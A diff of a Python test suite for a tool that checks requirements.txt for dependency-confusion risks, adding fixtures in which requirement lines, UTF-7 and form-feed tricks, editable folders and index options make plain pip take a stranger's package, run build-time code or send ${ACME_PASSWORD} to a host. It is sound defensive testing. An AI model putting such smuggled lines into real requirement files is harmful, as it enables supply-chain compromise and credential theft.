@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -335,21 +336,21 @@ def published(name: str, version: str, **more: str) -> Change:
     return lambda world: publish(world, name, version, **more)
 
 
-def a_source_distribution(world: World) -> None:
-    """Whose build is noticed."""
-    files = source("acme-units", "2.1.0+zzz", "public")
+def an_sdist(world: World, name: str, version: str, needs: str = "dependencies = []") -> None:
+    """Let a stranger publish a source distribution, whose build is noticed."""
+    files = source(name, version, "public")
     files["backend.py"] = f"open({str(witness(world))!r}, 'w').close()\n{files['backend.py']}"
-    archive(world.public.folder, "acme-units", "2.1.0+zzz", files)
+    files["pyproject.toml"] = files["pyproject.toml"].replace("dependencies = []", needs)
+    archive(world.public.folder, name, version, files)
+
+
+def a_source_distribution(world: World) -> None:
+    an_sdist(world, "acme-units", "2.1.0+zzz")
 
 
 def one_that_is_built_to_be_resolved(world: World) -> None:
-    """The same of acme-core: it says what it needs only when it is built."""
-    files = source("acme-core", "1.0", "public")
-    files["backend.py"] = f"open({str(witness(world))!r}, 'w').close()\n{files['backend.py']}"
-    files["pyproject.toml"] = files["pyproject.toml"].replace(
-        "dependencies = []", 'dynamic = ["dependencies"]'
-    )
-    archive(world.public.folder, "acme-core", "1.0", files)
+    """It says what it needs only when it is built."""
+    an_sdist(world, "acme-core", "1.0", 'dynamic = ["dependencies"]')
 
 
 def merged(world: World) -> None:
@@ -1120,51 +1121,111 @@ CHANGES: dict[str, tuple[Change, str]] = {
         "requirements.txt is not what sync writes",
     ),
 }
-# The block stays as it is; what is said of the line.
-LINES: dict[str, tuple[Change, str]] = {
-    "a second line": (
-        written("Acme_Units >= 2.1"),
-        "`Acme_Units >= 2.1` is not the line of",
+
+
+@dataclass(frozen=True)
+class Line:
+    """What a change request writes beside the block, which stays as it is, and what is said of it (a pattern).
+
+    pip: what plain pip does then, which takes the private file before: it takes the "public" one, "runs" the
+    stranger's code or "sends" the login to the stranger; or the line does no harm by itself, so it goes on with the
+    "private" file, or gives up with "nothing".
+    """
+
+    writes: Change
+    words: str
+    pip: str = "public"
+    wants: str = "only"
+
+
+def a_second(line: str) -> Change:
+    """A line of the name that the block has, with another address."""
+    return written(*line.format(f"@ {THEIRS}").splitlines())
+
+
+def beside(name: str, text: str, line: str) -> Change:
+    """A file in the app's folder, and a line that names it."""
+    return all_of(configured(name, text), written(line))
+
+
+def the_stranger_s_file(line: str) -> Change:
+    def change(world: World) -> None:
+        name = WHEEL.replace("-py3", "-9-py3")
+        shutil.copy(world.public.folder / name, world.app)
+        world.write(line + name)
+
+    return change
+
+
+def a_folder_of_the_stranger_s(world: World) -> None:
+    files = source("acme-other", "1.0", "public")
+    files["backend.py"] = f"open({str(witness(world))!r}, 'w').close()\n{files['backend.py']}"
+    for name, text in files.items():
+        (world.app / "other").mkdir(exist_ok=True)
+        (world.app / "other" / name).write_text(text)
+    world.write("-e ./other")
+
+
+def in_another_encoding(world: World) -> None:
+    """In UTF-7 the end of a line may look like a part of a comment."""
+    replaced("# >>>", "# coding: utf-7\n# >>>")(world)
+    written(f"# +AAo-acme-units @ {THEIRS}")(world)
+
+
+THEIRS = "PUBLIC../packages/acme_units-2.1.0-9-py3-none-any.whl"
+SECOND = r"`acme-units @ http://\S+` is not the line of acme-units"
+# What the app wants, and a stranger publishes, of which plain pip takes nothing as long as no line is added.
+SAFE: dict[str, Change] = {
+    "only": all_of(ONLY, TAGGED),
+    "pre-release": all_of(RANGE, published("acme-units", "3.0rc1")),
+    "source": all_of(PIN, lambda world: an_sdist(world, "acme-units", "2.1.0")),
+}
+LINES: dict[str, Line] = {
+    "a second line": Line(a_second("Acme_Units {}"), r"`Acme_Units @ http://\S+` is not the line of"),
+    "a comment with an address": Line(a_second("acme-units {}  # see https://x.y"), SECOND),
+    "an indented line": Line(a_second("   acme.units {}"), r"`acme\.units @ http://\S+` is not the line of"),
+    "a joined line": Line(a_second("acme-\\\nunits {}"), SECOND),
+    "a line behind a form feed": Line(written(f"# x\x0cacme-units @ {THEIRS}"), SECOND),
+    "an included file": Line(included(f"\nacme-units @ {THEIRS}\n"), rf"other\.txt:2: {SECOND}"),
+    "a looser line": Line(written("acme-units>=2"), "`acme-units>=2` is not the line of", "private"),
+    "an option in an included file": Line(
+        included("--pre\n"), r"other\.txt:1: `--pre` is an option", wants="pre-release"
     ),
-    "a comment with an address": (
-        written("acme-units>=2  # see https://x.y"),
-        "`acme-units>=2` is not the line of",
+    "an address without a name": Line(written(THEIRS), "is no plain requirement"),
+    "a path": Line(the_stranger_s_file("./"), "is no plain requirement"),
+    "a file": Line(the_stranger_s_file(""), "is no plain requirement"),
+    "a folder to be built": Line(
+        a_folder_of_the_stranger_s, r"installs \./other, which is no submodule of the answers", "runs"
     ),
-    "an indented line": (written("   acme.units"), "`acme.units` is not the line of"),
-    "a joined line": (
-        written("acme-\\", "units>=2"),
-        "`acme-units>=2` is not the line of",
-    ),
-    "a line behind a form feed": (written("# x\x0cacme-units>=2"), "`acme-units>=2` is not the line of"),
-    "an included file": (included("\nacme-units>=2\n"), "other.txt:2: `acme-units>=2` is not the line of"),
-    "an option in an included file": (included("--pre\n"), "other.txt:1: `--pre` is an option"),
-    "an address without a name": (
-        written("PUBLICacme_units-2.1.0-py3-none-any.whl"),
-        "is no plain requirement",
-    ),
-    "a path": (written("./acme_units-2.1.0-py3-none-any.whl"), "is no plain requirement"),
-    "a file": (written("acme_units-2.1.0-py3-none-any.whl"), "is no plain requirement"),
-    "a folder to be built": (written("-e ./other"), "installs ./other, which is no submodule of the answers"),
-    "a variable in an address": (
-        written("x @ https://evil.invalid/${ACME_PASSWORD}/x.whl"),
+    "a variable in an address": Line(
+        written("x @ PUBLIC../packages/${ACME_PASSWORD}/x-1.0-py3-none-any.whl"),
         "names an environment",
+        "sends",
     ),
-    "settings of a build": (written("harmless==1.0 --config-settings=a=b"), "is no plain requirement"),
-    "another encoding": (replaced("# >>>", "# coding: utf-7\n# >>>"), "requirements.txt is no UTF-8"),
+    # It steers a build, which nobody vouches for either.
+    "settings of a build": Line(
+        written("harmless==1.0 --config-settings=a=b"), "is no plain requirement", "private", "pre-release"
+    ),
+    "another encoding": Line(in_another_encoding, "requirements.txt is no UTF-8"),
+    "a constraint": Line(
+        beside("constraints.txt", f"acme-units @ {THEIRS}\n", "-c constraints.txt"), ": `-c constraints.txt"
+    ),
+    "--no-binary acme-units": Line(
+        written("--no-binary acme-units"), ": `--no-binary acme-units", "runs", "source"
+    ),
+    "--pre": Line(written("--pre"), ": `--pre` is an option", wants="pre-release"),
+    "--no-index": Line(written("--no-index"), ": `--no-index", "nothing"),
+    # What it does is shown below.
+    "--trusted-host": Line(written("--trusted-host evil.invalid"), ": `--trusted-host", "private"),
     **{
-        option: (written(option), f": `{option.split('PUBLIC')[0]}")
-        for option in (
-            "--index-url PUBLIC",
-            "-i PUBLIC",
-            "--extra-index-url PUBLIC",
-            "--find-links PUBLIC",
-            "-f PUBLIC",
-            "--no-binary acme-units",
-            "--no-index",
-            "--pre",
-            "--trusted-host evil.invalid",
-            "-c constraints.txt",
-        )
+        option: Line(written(f"{option} {place}"), f": `{option}")
+        for option, place in {
+            "--index-url": "PUBLIC",
+            "-i": "PUBLIC",
+            "--extra-index-url": "PUBLIC",
+            "--find-links": "PUBLICacme-units/",
+            "-f": "PUBLICacme-units/",
+        }.items()
     },
 }
 
@@ -1201,16 +1262,53 @@ def test_a_package_that_only_the_toml_lost_is_not_taken_from_a_stranger(here: Wo
     assert "acme-units==99.0.0" not in here.requirements.read_text()
 
 
+@pytest.mark.slow
+@pytest.mark.parametrize("safe", SAFE)
+def test_without_such_a_line_plain_pip_takes_the_private_file(bare: World, pips: Pips, safe: str):
+    SAFE[safe](bare)
+    assert [taken_by_pip(bare, python) for python in pips.values()] == ["private"] * len(PIPS)
+    assert not witness(bare).exists()
+
+
+@pytest.mark.slow
 @pytest.mark.parametrize("line", LINES)
-def test_a_line_that_nobody_can_vouch_for_stops_everything(here: World, line: str):
-    act, words = LINES[line]
-    act(here)
-    here.public.clear()
+def test_a_line_that_nobody_can_vouch_for_stops_everything(bare: World, pips: Pips, line: str):
+    """Although plain pip follows it, and so to the stranger."""
+    one = LINES[line]
+    SAFE[one.wants](bare)
+    one.writes(bare)
+    for python in pips.values():
+        witness(bare).unlink(missing_ok=True)
+        bare.public.clear()
+        took = taken_by_pip(bare, python)
+        sent = any(LOGINS["ACME_PASSWORD"] in asked.path for asked in bare.public.requests)
+        assert sent == (one.pip == "sends")
+        assert witness(bare).exists() == (one.pip == "runs")
+        assert took == one.pip or one.pip in ("sends", "runs")
+    witness(bare).unlink(missing_ok=True)
+    bare.public.clear()
     for command in ("check", "install"):
-        said = here.stops(command)
-        assert words in said
+        said = bare.stops(command)
+        assert re.search(one.words, said), said
         assert "Remove it" in said or "save it as UTF-8" in said
-    assert here.public.requests == []
+    assert bare.public.requests == []
+    assert not witness(bare).exists()
+
+
+@pytest.mark.slow
+def test_with_a_trusted_host_plain_pip_sends_the_login_to_whoever_answers_there(
+    bare: World, pips: Pips, tmp_path: Path
+):
+    """Which is why that line is none that the check lets pass."""
+    certificate = self_signed_certificate(tmp_path, "127.0.0.1")
+    with IndexHost(bare.private.folder, "builder", "another", certificate=certificate) as stranger:
+        address = stranger.simple_url.replace("://", "://${ACME_USER}:${ACME_PASSWORD}@", 1)
+        for option, sends in (("", False), ("--trusted-host 127.0.0.1", True)):
+            bare.requirements.write_text(f"--index-url {address}\n{option}\nacme-units\n")
+            for python in pips.values():
+                stranger.clear()
+                taken_by_pip(bare, python)
+                assert any(one.user == "builder" for one in stranger.requests) == sends
 
 
 def test_an_option_may_be_allowed_with_a_reason_and_then_it_counts(here: World):
